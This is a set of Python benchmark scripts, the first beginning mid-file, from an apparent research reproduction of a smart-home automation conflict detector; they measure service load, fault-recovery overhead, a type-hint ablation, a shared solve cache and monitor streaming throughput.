    flood_counters = record.tenants["flood-home"]
    assert flood_counters["completed"] == FLOOD_BURST
    assert flood_counters["quota_rejections"] == flood["rejected"]

    # The server absorbed everything without a single catch-all 500.
    assert record.internal_errors == 0
    assert record.state == "serving"
    assert record.requests_inflight == 0

    seconds = [duration for _, duration, _ in samples]
    per_method: dict[str, list[float]] = {}
    for method, duration, _ in samples:
        per_method.setdefault(method, []).append(duration)
    completed = len(samples) + FLOOD_REQUESTS
    throughput = completed / outcome["wall"]

    makespans = outcome["makespans"]
    median_makespan = _percentile(makespans, 0.50)
    spread = max(makespans) / median_makespan if median_makespan else 0.0

    results = {
        "benchmark": "service_load",
        "tenants": TENANTS,
        "requests_per_tenant": 4 + 2 * REQUESTS,
        "total_requests": completed,
        "wall_seconds": round(outcome["wall"], 3),
        "throughput_rps": round(throughput, 1),
        "latency": _latency_summary(seconds),
        "per_method": {
            method: _latency_summary(durations)
            for method, durations in sorted(per_method.items())
        },
        "quota": {
            "flood_requests": FLOOD_REQUESTS,
            "flood_burst": FLOOD_BURST,
            "served": flood["served"],
            "rejections": flood["rejected"],
            "server_counter_agrees": (
                record.quota_rejections == flood["rejected"]
            ),
        },
        "fairness": {
            "tenant_makespan_ms": _latency_summary(makespans),
            "spread_max_over_median": round(spread, 2),
        },
        "server": {
            "requests_total": record.requests_total,
            "errors_total": record.errors_total,
            "internal_errors": record.internal_errors,
            "phase_seconds": record.phase_seconds,
            "phase_counts": record.phase_counts,
        },
    }
    print(
        f"  {completed} requests in {outcome['wall']:.2f}s "
        f"({throughput:.0f} req/s); "
        f"p50={results['latency']['p50_ms']}ms "
        f"p95={results['latency']['p95_ms']}ms "
        f"p99={results['latency']['p99_ms']}ms"
    )
    print(
        f"  quota: {flood['served']}/{FLOOD_REQUESTS} flood calls "
        f"served, {flood['rejected']} typed rejections (exact)"
    )
    print(
        f"  fairness: tenant makespan p50="
        f"{results['fairness']['tenant_makespan_ms']['p50_ms']}ms, "
        f"max/median spread {spread:.2f}x"
    )

    if _EMIT_TRAJECTORY:
        _emit_trajectory(results, _RESULTS_PATH)
    emit_path = os.environ.get("BENCH_SERVICE_EMIT_PATH")
    if emit_path:
        _emit_trajectory(results, Path(emit_path))


def _emit_trajectory(results: dict, path: Path) -> None:
    path.write_text(
        json.dumps(results, indent=1, sort_keys=True), encoding="utf-8"
    )
    print(f"trajectory point written to {path.name}")


if __name__ == "__main__":
    if "BENCH_SERVICE_TENANTS" not in os.environ:
        TENANTS = int(_FULL_TENANTS)
    if "BENCH_SERVICE_REQUESTS" not in os.environ:
        REQUESTS = int(_FULL_REQUESTS)
    _EMIT_TRAJECTORY = True
    test_service_load()
