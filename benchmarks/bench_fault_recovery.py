"""Fault-recovery overhead: a large audit under injected chunk crashes.

The fault-tolerance layer (DESIGN.md §15) promises that worker
failures cost only wall clock, never correctness: a crashed solve
chunk is requeued (split-and-retry) and the batch's merged results
stay byte-identical to a fault-free run.  This benchmark prices that
promise at store scale:

* the *clean* arm runs a cold plan/execute audit of a cloned-corpus
  store on a thread-pool dispatcher (small chunks, so there are many
  worker messages to kill);
* the *faulty* arm repeats the identical audit with a seeded
  :class:`~repro.testing.faults.FaultPlan` crashing ~5% of all
  ``dispatch.chunk`` executions (`error` kind — the worker raises,
  exactly like a crashed solve).

Gates (the paper-shaped claims this file reproduces):

* **identical results** — threat tuples (full fidelity: details and
  witnesses) and persisted store bytes match the clean arm exactly;
* **exact accounting** — every fired fault is one recorded
  ``pool_failures`` event, recoveries show up in
  ``chunks_requeued``/``tasks_retried``, and the per-batch deltas the
  engine drained into ``DetectionStats`` sum to the dispatcher's
  lifetime totals (nothing double- or under-counted);
* **bounded overhead** — the faulty audit finishes in under
  ``OVERHEAD_GATE``x (2x) the clean wall clock: recovery re-executes
  only the lost chunks, never the batch.

Select the store size with BENCH_FAULT_APPS (default 120 under
pytest so `make bench` stays quick; 500 when run as a script).  Script
runs write ``BENCH_fault_recovery.json`` at the repo root as the
committed trajectory point; pytest passes leave it alone.
"""

from __future__ import annotations

import json
import os
import tempfile
import time
import warnings
from pathlib import Path

from bench_store_scale import _store_files, build_store
from repro.constraints.dispatch import ThreadPoolDispatcher
from repro.detector import DetectionPipeline, DetectionStore, ShardedRuleIndex
from repro.testing.faults import FaultPlan, FaultSpec

APPS = int(os.environ.get("BENCH_FAULT_APPS", "120"))
_SCRIPT_APPS = 500
FAULT_PROBABILITY = 0.05
FAULT_SEED = 7
OVERHEAD_GATE = 2.0
# Small chunks make the audit many worker messages: at 500 apps the
# faulty arm sees dozens of injected crashes, not one or two.
CHUNK_TASKS = 4
WORKERS = 2
_RESULTS_PATH = (
    Path(__file__).resolve().parent.parent / "BENCH_fault_recovery.json"
)
_EMIT_TRAJECTORY = False


def _run_audit(rulesets, resolver, dispatcher):
    """Cold plan/execute audit; returns wall seconds, the full-fidelity
    threat tuple, the persisted store bytes and the pipeline stats."""
    pipeline = DetectionPipeline(
        resolver, index=ShardedRuleIndex(), dispatcher=dispatcher
    )
    try:
        started = time.perf_counter()
        reports = pipeline.audit_store(rulesets)
        elapsed = time.perf_counter() - started
        threats = tuple(
            (t.type.value, t.rule_a.rule_id, t.rule_b.rule_id, t.detail,
             t.witness)
            for report in reports
            for t in report.threats
        )
        with tempfile.TemporaryDirectory() as store_dir:
            DetectionStore(store_dir).save(
                pipeline, rulesets={r.app_name: r for r in rulesets}
            )
            store_bytes = _store_files(store_dir)
        return elapsed, threats, store_bytes, pipeline.stats
    finally:
        pipeline.close()


def test_fault_recovery_is_invisible_and_bounded():
    rulesets, resolver = build_store(APPS)

    clean_seconds, clean_threats, clean_store, _ = _run_audit(
        rulesets, resolver,
        ThreadPoolDispatcher(WORKERS, chunk_tasks=CHUNK_TASKS),
    )
    assert clean_threats, "corpus produced no threats to compare"

    dispatcher = ThreadPoolDispatcher(WORKERS, chunk_tasks=CHUNK_TASKS)
    plan = FaultPlan(
        [
            FaultSpec(
                "dispatch.chunk", kind="error",
                probability=FAULT_PROBABILITY,
            )
        ],
        seed=FAULT_SEED,
    )
    with plan, warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)
        faulty_seconds, faulty_threats, faulty_store, stats = _run_audit(
            rulesets, resolver, dispatcher
        )

    fired = plan.fired("dispatch.chunk")
    calls = plan.calls("dispatch.chunk")
    assert fired > 0, (
        f"no faults fired over {calls} chunk executions; "
        "grow BENCH_FAULT_APPS or the probability"
    )

    # Identical results: threats and persisted bytes match exactly.
    assert faulty_threats == clean_threats
    assert faulty_store == clean_store

    # Exact accounting: one pool failure per fired fault (the `error`
    # kind crashes exactly the chunk it fires in; inline recovery is
    # shielded and can neither fire nor fail), every failure requeued
    # at least one chunk (a crashed plan chunk is re-planned inline,
    # a crashed solve chunk is split and its tasks retried), and the
    # engine's drained per-batch deltas sum to the dispatcher's
    # lifetime totals.
    totals = dispatcher.fault_totals()
    assert totals["pool_failures"] == fired
    assert totals["chunks_requeued"] >= fired
    assert totals["degraded_serial"] == 0
    assert (
        stats.tasks_retried,
        stats.chunks_requeued,
        stats.pool_failures,
        stats.degraded_serial,
    ) == (
        totals["tasks_retried"],
        totals["chunks_requeued"],
        totals["pool_failures"],
        totals["degraded_serial"],
    )

    # Bounded overhead: recovery re-executes lost chunks, not batches.
    overhead = faulty_seconds / clean_seconds
    assert overhead < OVERHEAD_GATE, (
        f"faulty audit took {overhead:.2f}x the clean run "
        f"({faulty_seconds:.2f}s vs {clean_seconds:.2f}s); "
        f"gate is {OVERHEAD_GATE}x"
    )

    metrics = {
        "apps": APPS,
        "chunk_tasks": CHUNK_TASKS,
        "workers": WORKERS,
        "fault_probability": FAULT_PROBABILITY,
        "fault_seed": FAULT_SEED,
        "chunk_calls": calls,
        "faults_fired": fired,
        "clean_seconds": round(clean_seconds, 3),
        "faulty_seconds": round(faulty_seconds, 3),
        "overhead_x": round(overhead, 3),
        "overhead_gate_x": OVERHEAD_GATE,
        "identical_threats": True,
        "identical_store_bytes": True,
        "threats": len(clean_threats),
        "pool_failures": totals["pool_failures"],
        "chunks_requeued": totals["chunks_requeued"],
        "tasks_retried": totals["tasks_retried"],
        "degraded_serial": totals["degraded_serial"],
    }
    print(
        f"fault recovery @ {APPS} apps: {fired}/{calls} chunks crashed, "
        f"{metrics['overhead_x']}x overhead "
        f"({metrics['faulty_seconds']}s vs {metrics['clean_seconds']}s)"
    )
    if _EMIT_TRAJECTORY:
        payload = {
            "benchmark": "fault_recovery",
            "cpu_count": os.cpu_count() or 1,
            **metrics,
        }
        _RESULTS_PATH.write_text(
            json.dumps(payload, indent=1, sort_keys=True), encoding="utf-8"
        )
        print(f"trajectory point written to {_RESULTS_PATH.name}")


if __name__ == "__main__":
    if "BENCH_FAULT_APPS" not in os.environ:
        APPS = _SCRIPT_APPS
    _EMIT_TRAJECTORY = True
    test_fault_recovery_is_invisible_and_bounded()
