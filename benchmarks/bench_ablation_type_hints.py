"""Ablation — device-type refinement of `capability.switch` inputs.

Paper §VIII-B: "To avoid excessive false positives due to this setting,
we classify devices using capability.switch into different types
according to the app description."  This ablation runs the Fig. 8
pairwise sweep twice — with the corpus type hints, and with raw
capability-based identity (every switch is "the same device") — and
measures how many extra (false-positive) action-interference findings
the refinement removes.
"""

from collections import Counter

from repro.constraints import TypeBasedResolver
from repro.corpus import device_controlling_apps
from repro.detector import DetectionEngine
from repro.rules.extractor import RuleExtractor


def _sweep(use_hints: bool):
    extractor = RuleExtractor()
    rulesets, hints, values = [], {}, {}
    for app in device_controlling_apps():
        rulesets.append(extractor.extract(app.source, app.name))
        if use_hints:
            hints[app.name] = app.type_hints
        values[app.name] = app.values
    engine = DetectionEngine(TypeBasedResolver(type_hints=hints, values=values))
    counts: Counter = Counter()
    for i in range(len(rulesets)):
        for j in range(i + 1, len(rulesets)):
            for rule_a in rulesets[i].rules:
                for rule_b in rulesets[j].rules:
                    for threat in engine.detect_pair(rule_a, rule_b):
                        counts[threat.type.value] += 1
    return counts


def test_ablation_type_hints(benchmark):
    with_hints = benchmark.pedantic(
        lambda: _sweep(use_hints=True), rounds=1, iterations=1
    )
    without_hints = _sweep(use_hints=False)

    print("\n=== Ablation: switch-type refinement (paper §VIII-B) ===")
    print(f"{'class':<8}{'with hints':>12}{'capability-only':>17}")
    for key in ("AR", "GC", "CT", "SD", "LT", "EC", "DC"):
        print(f"{key:<8}{with_hints.get(key, 0):>12}"
              f"{without_hints.get(key, 0):>17}")
    ar_with = with_hints.get("AR", 0)
    ar_without = without_hints.get("AR", 0)
    print(f"AR inflation without refinement: {ar_without / max(ar_with, 1):.1f}x")
    print("note: GC/SD/LT need device types for the M_GC effect table, so")
    print("capability-only identity loses them entirely while inflating AR.")

    # The paper's claim: capability-only identity aliases unrelated
    # switches and produces excessive same-actuator false positives...
    assert ar_without > 2 * ar_with
    # ...while the goal/effect analyses (M_GC) are keyed by device type
    # and disappear without the refinement — refinement is load-bearing
    # in both directions.
    assert without_hints.get("GC", 0) == 0
    assert with_hints.get("GC", 0) > 0
