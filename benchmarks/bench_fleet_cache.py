"""Fleet-scale shared solve cache: N tenants, one service, one cache.

``TENANTS`` tenant homes install overlapping generated corpora through
one :class:`HomeGuardService` (DESIGN.md §12).  Tenant 0 and tenant 1
install *identical* corpora; tenants 2+ share the first
``OVERLAP``-fraction of the plan and perturb the numeric settings of
the rest, so their constraint instances differ exactly where a real
fleet's would (same automations, different thresholds).  Three arms:

* ``off`` — no shared cache: every home re-solves everything (the
  pre-§12 behavior, and the byte-equality reference);
* ``lru`` — one in-process :class:`InProcessLRUCache` across all homes;
* ``sqlite`` — one :class:`SQLiteSolveCache` file across all homes (the
  multi-process fleet backend), re-opened *warm* for one extra tenant
  to show the cross-process replay.

Shape to reproduce: threat reports and persisted store bytes are
byte-identical in every arm (the cache only short-circuits solves);
tenant 1's cold audit of the identical corpus performs **zero** solver
calls against the warmed cache; and fleet-wide, the shared cache cuts
total solver calls by >= 80% on the 50%-overlapping corpora.

Select the fleet shape with BENCH_FLEET_TENANTS / BENCH_FLEET_APPS /
BENCH_FLEET_OVERLAP (defaults "4" / "10" / "0.5" under pytest, a
"6"-tenant, "12"-app sweep when run as a script).  Script runs write
``BENCH_fleet_cache.json`` at the repo root as a machine-readable
trajectory point; CI smoke passes set BENCH_FLEET_EMIT_PATH to upload
the run's numbers without touching the committed artifact.
"""

from __future__ import annotations

import json
import os
import tempfile
import time
from pathlib import Path

from repro.constraints.solvecache import SQLiteSolveCache
from repro.corpus import device_controlling_apps
from repro.service import DecisionRequest, HomeGuardService, InstallRequest

TENANTS = int(os.environ.get("BENCH_FLEET_TENANTS", "4"))
APPS_PER_TENANT = int(os.environ.get("BENCH_FLEET_APPS", "10"))
OVERLAP = float(os.environ.get("BENCH_FLEET_OVERLAP", "0.5"))
_FULL_TENANTS = "6"
_FULL_APPS = "12"
# The acceptance floor: fleet-wide solver calls must drop by at least
# this fraction once the shared cache is on.
_REDUCTION_FLOOR = 0.80
_RESULTS_PATH = (
    Path(__file__).resolve().parent.parent / "BENCH_fleet_cache.json"
)
# Set by the __main__ entry point: only dedicated script runs overwrite
# the committed repo-root trajectory artifact.
_EMIT_TRAJECTORY = False


def _fleet_plans():
    """``(devices, plans)``: one shared device per type (labels = type
    names, so structurally equal corpora lower to equal constraint
    instances), and one install plan per tenant."""
    apps = list(device_controlling_apps())[:APPS_PER_TENANT]
    shared_count = max(1, int(round(len(apps) * OVERLAP)))
    types = sorted({t for app in apps for t in app.type_hints.values()})
    devices = [(t, t) for t in types]
    plans = []
    for tenant in range(TENANTS):
        plan = []
        for i, app in enumerate(apps):
            values = dict(app.values)
            # Tenants 0 and 1 are identical (the zero-solve gate);
            # later tenants keep the shared prefix and re-tune the
            # numeric settings of everything after it.
            if tenant >= 2 and i >= shared_count:
                values = {
                    key: (
                        value + 13 * tenant
                        if isinstance(value, (int, float))
                        and not isinstance(value, bool)
                        else value
                    )
                    for key, value in values.items()
                }
            plan.append((app.name, dict(app.type_hints), values))
        plans.append((f"tenant{tenant}", plan))
    return apps, devices, plans


def _install_tenant(service, home_id, plan, devices, store_root):
    """Cold-audit one tenant (install + keep every app); returns the
    loss-free threat fingerprint, the persisted store bytes and this
    home's counter snapshot."""
    store_dir = Path(store_root) / home_id
    service.create_home(home_id, store_path=store_dir)
    for label, type_name in devices:
        service.register_device(home_id, label, type_name)
    threats = []
    started = time.perf_counter()
    for name, bindings, values in plan:
        session = service.install(InstallRequest(
            home_id=home_id, app_name=name,
            devices=bindings, values=values,
        ))
        if session.pending:
            session = service.decide(DecisionRequest(
                home_id=home_id, session_id=session.session_id,
                decision="keep",
            ))
        threats.extend(
            (record.type, record.rule_a, record.rule_b, record.detail,
             record.witness, record.chain)
            for record in (*session.report.threats, *session.report.chains)
        )
    elapsed = time.perf_counter() - started
    stats = service.detection_stats(home_id)
    store_bytes = {
        path.name: path.read_bytes()
        for path in sorted(store_dir.iterdir())
    }
    return {
        "threats": threats,
        "store": store_bytes,
        "seconds": elapsed,
        "solver_calls": stats.solver_calls,
        "shared_cache_hits": stats.shared_cache_hits,
        "shared_cache_publishes": stats.shared_cache_publishes,
    }


def _run_fleet(solve_cache, apps, devices, plans, store_root):
    # workers=None keeps detection inline: shared-cache consults happen
    # per solve, so intra-home duplicate content never executes twice
    # (batched dispatchers plan whole rounds before publishing and trade
    # a little dedup for wall clock — the equivalence tests cover them).
    service = HomeGuardService(workers=None, solve_cache=solve_cache)
    try:
        service.preload(apps)
        return {
            home_id: _install_tenant(
                service, home_id, plan, devices, store_root
            )
            for home_id, plan in plans
        }
    finally:
        service.close()


def _hit_rate(tenant: dict) -> float:
    verdicts = tenant["solver_calls"] + tenant["shared_cache_hits"]
    return tenant["shared_cache_hits"] / verdicts if verdicts else 0.0


def test_fleet_cache_shared_solves():
    apps, devices, plans = _fleet_plans()
    print(
        f"\n=== Fleet cache: {TENANTS} tenants x {APPS_PER_TENANT} apps, "
        f"overlap {OVERLAP:.0%} ==="
    )
    results = {}
    with tempfile.TemporaryDirectory() as root:
        reference = _run_fleet(None, apps, devices, plans, f"{root}/off")
        total_off = sum(t["solver_calls"] for t in reference.values())
        assert total_off > 0
        assert all(t["threats"] for t in reference.values()), (
            "fleet corpus produced a threat-free tenant — nothing to compare"
        )
        results["off"] = {
            "total_solver_calls": total_off,
            "tenants": {
                home_id: {
                    "solver_calls": t["solver_calls"],
                    "seconds": t["seconds"],
                    "threats": len(t["threats"]),
                }
                for home_id, t in reference.items()
            },
        }

        sqlite_path = f"{root}/fleet.db"
        for arm, spec in (("lru", "lru"), ("sqlite", f"sqlite:{sqlite_path}")):
            fleet = _run_fleet(spec, apps, devices, plans, f"{root}/{arm}")
            total_on = sum(t["solver_calls"] for t in fleet.values())
            reduction = 1.0 - total_on / total_off
            arm_result = {"tenants": {}}
            print(
                f"  {arm:>6}: {total_off} -> {total_on} solver calls "
                f"({reduction:.1%} fewer)"
            )
            for home_id, tenant in fleet.items():
                # Invariant: the cache only short-circuits solves —
                # threats and store bytes are byte-identical per tenant.
                assert tenant["threats"] == reference[home_id]["threats"], (
                    f"{arm}/{home_id}: shared cache changed the threats"
                )
                assert tenant["store"] == reference[home_id]["store"], (
                    f"{arm}/{home_id}: shared cache changed the store bytes"
                )
                arm_result["tenants"][home_id] = {
                    "solver_calls": tenant["solver_calls"],
                    "shared_cache_hits": tenant["shared_cache_hits"],
                    "shared_cache_publishes": tenant["shared_cache_publishes"],
                    "hit_rate": _hit_rate(tenant),
                    "seconds": tenant["seconds"],
                }
                print(
                    f"          {home_id}: solves={tenant['solver_calls']:>4} "
                    f"hits={tenant['shared_cache_hits']:>4} "
                    f"({_hit_rate(tenant):.0%} hit rate)"
                )
            # Acceptance gates: the second identical tenant audits cold
            # with ZERO solver calls, and the fleet-wide solve count
            # drops >= 80% on the 50%-overlapping corpora.
            assert fleet["tenant1"]["solver_calls"] == 0, (
                f"{arm}: identical second tenant still made "
                f"{fleet['tenant1']['solver_calls']} solver calls"
            )
            assert fleet["tenant1"]["shared_cache_hits"] > 0
            assert reduction >= _REDUCTION_FLOOR, (
                f"{arm}: shared cache only cut solver calls by "
                f"{reduction:.1%} (floor {_REDUCTION_FLOOR:.0%})"
            )
            arm_result["total_solver_calls"] = total_on
            arm_result["reduction_vs_off"] = reduction
            arm_result["tenant1_solver_calls"] = (
                fleet["tenant1"]["solver_calls"]
            )
            results[arm] = arm_result

        # Cross-process warm replay: a brand-new service re-opening the
        # SQLite file serves one more identical tenant without solving.
        warm = _run_fleet(
            f"sqlite:{sqlite_path}", apps, devices, [plans[0]],
            f"{root}/warm",
        )
        tenant = warm[plans[0][0]]
        assert tenant["threats"] == reference[plans[0][0]]["threats"]
        assert tenant["store"] == reference[plans[0][0]]["store"]
        assert tenant["solver_calls"] == 0, (
            f"warm SQLite replay still made {tenant['solver_calls']} "
            "solver calls"
        )
        results["sqlite_warm_reopen"] = {
            "solver_calls": tenant["solver_calls"],
            "shared_cache_hits": tenant["shared_cache_hits"],
            "hit_rate": _hit_rate(tenant),
            "seconds": tenant["seconds"],
        }
        print(
            f"  reopen: warm sqlite replay served "
            f"{tenant['shared_cache_hits']} verdicts, 0 solver calls"
        )

    if _EMIT_TRAJECTORY:
        _emit_trajectory(results, _RESULTS_PATH)
    emit_path = os.environ.get("BENCH_FLEET_EMIT_PATH")
    if emit_path:
        _emit_trajectory(results, Path(emit_path))


def _emit_trajectory(results: dict, path: Path) -> None:
    payload = {
        "benchmark": "fleet_cache",
        "tenants": TENANTS,
        "apps_per_tenant": APPS_PER_TENANT,
        "overlap": OVERLAP,
        "reduction_floor": _REDUCTION_FLOOR,
        "arms": results,
        "identical_tenant_zero_solver_calls": all(
            results[arm]["tenant1_solver_calls"] == 0
            for arm in ("lru", "sqlite")
        ),
    }
    path.write_text(
        json.dumps(payload, indent=1, sort_keys=True), encoding="utf-8"
    )
    print(f"trajectory point written to {path.name}")


if __name__ == "__main__":
    if "BENCH_FLEET_TENANTS" not in os.environ:
        TENANTS = int(_FULL_TENANTS)
    if "BENCH_FLEET_APPS" not in os.environ:
        APPS_PER_TENANT = int(_FULL_APPS)
    _EMIT_TRAJECTORY = True
    test_fleet_cache_shared_solves()
