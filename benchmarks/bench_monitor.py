"""Runtime monitor streaming throughput (DESIGN.md §16).

Streams ``EVENTS`` synthetic device events (default 100k) across
``HOMES`` simulated homes (default 200), each with its own
:class:`~repro.monitor.engine.MonitorEngine` running one compiled
threat-confirmation rule plus the full default anomaly catalog — the
shape a single fleet controller sees when every tenant forwards its
event stream.

The synthetic stream is deterministic and mixes the interesting cases:
witness sequences that confirm the predicted threat, toggle bursts
that trip the spam rule, power readings around (and above) the rolling
baseline, and off-hours actuation — so the measured path includes
observation stamping and dedup, not just rule dispatch.

Measured per home-batch (one home's slice of the stream):

* **events/sec** — total events over total wall time, single process;
* **p95 batch latency** — 95th percentile of per-batch ingest time.

Acceptance gate: sustained ingest **>= 50k events/sec** in a single
process (BENCH_MONITOR_MIN_EPS to override).  Select the shape with
BENCH_MONITOR_HOMES / BENCH_MONITOR_EVENTS.  Script runs (``make
bench-monitor``) rewrite the committed ``BENCH_monitor.json``
trajectory point; CI passes set BENCH_MONITOR_EMIT_PATH to upload the
run's numbers without touching the committed artifact.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

from repro.monitor import (
    ConfirmationRule,
    MonitorEngine,
    default_anomaly_rules,
)
from repro.runtime.events import Event

HOMES = int(os.environ.get("BENCH_MONITOR_HOMES", "200"))
EVENTS = int(os.environ.get("BENCH_MONITOR_EVENTS", "100000"))
BATCH = int(os.environ.get("BENCH_MONITOR_BATCH", "100"))
MIN_EPS = float(os.environ.get("BENCH_MONITOR_MIN_EPS", "50000"))
_RESULTS_PATH = (
    Path(__file__).resolve().parent.parent / "BENCH_monitor.json"
)
# Set by the __main__ entry point: only dedicated script runs overwrite
# the committed repo-root trajectory artifact.
_EMIT_TRAJECTORY = False

NOON = 12 * 3600.0


def _make_engine(home_index: int) -> MonitorEngine:
    """One home's monitor: a compiled actuator-race confirmation on the
    shared device plus the default anomaly catalog."""
    confirmation = ConfirmationRule(
        "AR:A/R1->B/R1",
        ((("dev-0", "switch", "on"),), (("dev-0", "switch", "off"),)),
        window=300.0,
        ordered=False,
    )
    return MonitorEngine(
        f"home-{home_index:04d}",
        [confirmation, *default_anomaly_rules()],
    )


def _event(sequence: int, timestamp: float) -> Event:
    """Deterministic synthetic stream: 3 devices per home — a raced
    switch (confirmations + toggle spam), a power meter with
    occasional spikes, and a lock actuated around the clock
    (off-hours findings on the wrapped days)."""
    slot = sequence % 4
    if slot in (0, 1):
        return Event(
            subject="dev-0",
            name="switch",
            value="on" if slot == 0 else "off",
            timestamp=timestamp,
        )
    if slot == 2:
        watts = 120.0 if sequence % 97 else 900.0  # rare spike
        return Event(
            subject="dev-1", name="power", value=watts, timestamp=timestamp
        )
    return Event(
        subject="dev-2", name="lock", value="unlocked", timestamp=timestamp
    )


def bench_streaming() -> dict:
    engines = [_make_engine(index) for index in range(HOMES)]
    batch_seconds: list[float] = []
    total_events = 0
    observations = 0
    sequence = 0
    clock = NOON
    wall_start = time.perf_counter()
    while total_events < EVENTS:
        for home_index, engine in enumerate(engines):
            events = []
            for offset in range(BATCH):
                events.append(_event(sequence, clock + offset * 1.7))
                sequence += 1
            clock += BATCH * 1.7
            started = time.perf_counter()
            observations += len(engine.ingest_batch(events))
            batch_seconds.append(time.perf_counter() - started)
            total_events += len(events)
            if total_events >= EVENTS:
                break
    wall = time.perf_counter() - wall_start
    batch_seconds.sort()
    p95 = batch_seconds[int(len(batch_seconds) * 0.95)]
    kinds = {"confirmed": 0, "contradicted": 0, "anomalies": 0}
    for engine in engines:
        counters = engine.counters()
        for kind in kinds:
            kinds[kind] += counters[kind]
    return {
        "homes": HOMES,
        "events": total_events,
        "batch_size": BATCH,
        "seconds": round(wall, 4),
        "events_per_second": round(total_events / wall, 1),
        "p95_batch_ms": round(p95 * 1000.0, 4),
        "observations": observations,
        "observation_kinds": kinds,
    }


def test_monitor_throughput():
    print(
        f"\n=== Monitor streaming: {EVENTS} events across {HOMES} homes "
        f"(batches of {BATCH}) ==="
    )
    results = bench_streaming()
    print(
        f"{results['events']} events in {results['seconds']:.2f}s = "
        f"{results['events_per_second']:.0f} events/sec, "
        f"p95 batch {results['p95_batch_ms']:.3f}ms, "
        f"{results['observations']} observations"
    )
    # The stream exercised the full observation path, not just dispatch.
    assert results["observations"] > 0
    assert results["observation_kinds"]["confirmed"] > 0
    assert results["events_per_second"] >= MIN_EPS, (
        f"monitor ingest {results['events_per_second']:.0f} events/sec "
        f"is below the {MIN_EPS:.0f}/sec single-process gate"
    )
    if _EMIT_TRAJECTORY:
        _emit_trajectory(results, _RESULTS_PATH)
    emit_path = os.environ.get("BENCH_MONITOR_EMIT_PATH")
    if emit_path:
        _emit_trajectory(results, Path(emit_path))


def _emit_trajectory(results: dict, path: Path) -> None:
    payload = {
        "benchmark": "monitor_streaming",
        "gate_events_per_second": MIN_EPS,
        "results": results,
    }
    path.write_text(
        json.dumps(payload, indent=1, sort_keys=True), encoding="utf-8"
    )
    print(f"trajectory point written to {path.name}")


if __name__ == "__main__":
    _EMIT_TRAJECTORY = True
    test_monitor_throughput()
